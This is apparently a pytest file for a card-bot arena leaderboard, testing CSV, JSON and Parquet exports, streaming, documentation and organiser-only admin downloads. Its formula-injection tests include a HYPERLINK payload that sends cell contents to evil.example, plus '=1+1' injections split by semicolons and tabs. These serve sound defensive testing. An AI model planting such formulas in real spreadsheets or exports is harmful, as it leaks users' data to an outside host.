"""Downloads: the same lines as CSV, JSON and Parquet, safe in spreadsheets and documented."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from pyarrow import parquet

from card_arena.leaderboard import sheets
from card_arena.leaderboard.sheets import (
    DECISIONS,
    FORMULAS,
    MATCHES,
    SHEETS,
    STANDINGS,
    Column,
    NoParquet,
    Row,
    as_csv,
    as_json,
    described,
    write_parquet,
)
from card_arena.leaderboard.standings import standings
from card_arena.tests.accounts.hidden_arena import BOTS, Arena, arena, play
from card_arena.tests.leaderboard.web.house import begin, submitted
from card_arena.tests.results.query_plans import listening

DOCS = Path(__file__).parent.parent.parent / "docs" / "sheets.md"


@pytest.fixture
def here(tmp_path: Path):
    with arena(tmp_path) as here:
        bots = [submitted(here.store, name) for name in BOTS]
        play(here.store, begin(here.store, "friday", bots), range(1, 3), [])
        yield here


def read_csv(parts: Any) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO("".join(parts)))]


def in_parquet(sheet: Any, lines: Sequence[Row]) -> list[dict[str, Any]]:
    target = io.BytesIO()
    write_parquet(sheet, lines, target)
    found: list[dict[str, Any]] = parquet.read_table(io.BytesIO(target.getvalue())).to_pylist()
    return found


def test_the_standings_are_those_of_the_page_with_their_intervals(here: Arena):
    table = standings(here.store, "friday")
    lines = [*sheets.standings(here.store, "friday", 1)]
    assert [line["bot"] for line in lines] == [line.bot for line in table.standings]
    assert [line["points"] for line in lines] == [line.points for line in table.standings]
    assert lines[0]["rating_low"] < lines[0]["rating"] < lines[0]["rating_high"]


def test_matches_and_decisions_are_complete_and_agree_with_the_counts(here: Arena):
    matches = [*sheets.matches(here.store, "friday", 1)]
    assert len(matches) == 4 * 2 * 2
    decisions = [*sheets.decisions(here.store, "friday", 1)]
    for bot in BOTS:
        counted = sum(line["decisions"] for line in matches if line["bot"] == bot)
        assert sum(line["bot"] == bot for line in decisions) == counted
    silent = [line for line in decisions if line["bot"] == "silent" and line["fault"]]
    assert silent
    assert {(line["fault"], line["answer"]) for line in silent} == {("timeout", None)}
    assert "thinking" not in json.dumps(decisions), "standard error is for its author"


def test_matches_are_read_a_few_at_a_time_and_none_is_left_out(here: Arena, monkeypatch):
    whole = [*sheets.matches(here.store, "friday", 1)]
    monkeypatch.setattr("card_arena.leaderboard.matches.AT_ONCE", 3)
    assert [*sheets.matches(here.store, "friday", 1)] == whole


def test_no_sheet_asks_more_often_because_it_has_more_lines(here: Arena):
    def asked() -> list[int]:
        counts = []
        for sheet in (sheets.versions, sheets.standings, sheets.matches, sheets.decisions):
            season = () if sheet is sheets.versions else ("friday", 1)
            with listening() as statements:
                assert [*sheet(here.store, *season)]
            counts.append(len(statements))
        return counts

    before = asked()
    more = [submitted(here.store, f"more{number}") for number in range(5)]
    season = next(each for each in here.store.seasons("friday") if each.number == 1)
    play(here.store, season, range(3, 5), [])
    assert len([*sheets.versions(here.store)]) > len(more)
    assert asked() == before


@pytest.mark.parametrize("sheet", [STANDINGS, MATCHES, DECISIONS])
def test_every_form_has_the_same_lines_under_the_documented_columns(here: Arena, sheet):
    lines = [*getattr(sheets, sheet.name)(here.store, "friday", 1)]
    names = [column.name for column in sheet.columns]
    assert lines
    assert all([*line] == names for line in lines)
    text = "".join(as_json(sheet, lines))
    said = [json.loads(line) for line in text.splitlines()] if sheet.long else json.loads(text)
    table = in_parquet(sheet, lines)
    cells = read_csv(as_csv(sheet, lines))
    assert len(said) == len(table) == len(cells) == len(lines)
    assert [*cells[0]] == [*said[0]] == [*table[0]] == names
    for name in names:
        assert [line[name] for line in table] == [line[name] for line in lines], name


@pytest.mark.parametrize("begin_with", FORMULAS)
def test_no_text_becomes_a_formula_and_no_number_a_text(begin_with: str):
    columns = (Column("bot", "text", ""), Column("points", "number", ""))
    sheet = sheets.Sheet("x", "y", columns)
    attack = f'{begin_with}HYPERLINK("http://evil.example?"&A1)'
    (cell,) = read_csv(as_csv(sheet, [{"bot": attack, "points": -1.5}]))
    assert cell["bot"] == f"'{attack}"
    assert cell["points"] == "-1.5"


@pytest.mark.parametrize("before", [";", "a;", "a; ", 'a";"', "a\t", "a\n"])
def test_no_text_becomes_a_formula_where_semicolons_or_tabs_part_cells(before: str):
    sheet = sheets.Sheet("x", "y", (Column("bot", "text", ""), Column("team", "text", "")))
    attack = f"{before}=1+1;b;c"
    text = "".join(as_csv(sheet, [{"bot": attack, "team": attack}]))
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not any(cell.strip(' "').startswith("=") for cell in line)


def test_long_sheets_are_written_while_they_are_read():
    read = []

    def endless():
        for number in range(10**9):
            read.append(number)
            yield {"key": "x" * 100, "turn": number}

    for written in (as_csv(DECISIONS, endless()), as_json(DECISIONS, endless())):
        read.clear()
        assert next(written)
        assert len(read) < 2_000


def test_without_pyarrow_one_sentence_says_what_to_install(monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(NoParquet, match="extra `report`"):
        write_parquet(STANDINGS, [], io.BytesIO())


def test_the_columns_are_documented():
    assert described() in DOCS.read_text()
    for sheet in SHEETS.values():
        assert len({column.name for column in sheet.columns}) == len(sheet.columns)


def test_the_admin_pages_have_every_sheet_for_organisers_alone(here: Arena):
    boss, author = here.browser("staff", "organiser"), here.browser("ada")
    for form in ("csv", "json", "parquet"):
        for path in [f"/admin/sheets/{name}.{form}" for name in ("versions", "submissions")] + [
            f"/admin/t/friday/1/{name}.{form}" for name in ("standings", "matches", "decisions")
        ]:
            with boss.get(path) as answer:
                assert answer.status_code == 200, path
                assert "attachment" in answer.headers["Content-Disposition"]
                assert "no-store" in answer.headers["Cache-Control"]
                assert answer.data
            assert author.get(path).status_code == 403
    for path in (
        "/admin/t/friday/9/matches.csv",
        "/admin/t/friday/1/versions.csv",
        "/admin/sheets/matches.csv",
        "/admin/sheets/versions.xlsx",
    ):
        assert boss.get(path).status_code == 404, path
